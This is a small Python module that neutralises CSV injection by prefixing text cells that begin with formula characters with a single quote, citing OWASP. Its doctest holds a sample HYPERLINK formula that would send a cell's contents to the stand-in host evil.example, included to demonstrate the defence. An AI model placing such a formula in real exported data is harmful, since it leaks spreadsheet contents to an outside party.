"""Text cells that spreadsheet software would run as formulas (CSV injection), made inert.

OWASP, "CSV Injection" (https://owasp.org/www-community/attacks/CSV_Injection): a cell beginning with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return may be evaluated as a formula when the CSV is opened
in Excel or LibreOffice (``=HYPERLINK(...)`` sends data elsewhere, DDE runs commands). Prefixing such a
cell with a single quote makes it text. Numbers are left alone: ``-0.417`` as a number is a longitude, not
a formula, and only text typed by users can carry one.
"""

from __future__ import annotations

from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_formula(value: Any) -> Any:
    """A cell value safe to open in a spreadsheet: text that starts a formula gets a leading ``'``.

    >>> neutralise_formula('=HYPERLINK("http://evil.example/?"&A1, "click")')
    '\\'=HYPERLINK("http://evil.example/?"&A1, "click")'
    >>> neutralise_formula(-0.417), neutralise_formula("Library")
    (-0.417, 'Library')
    """
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value
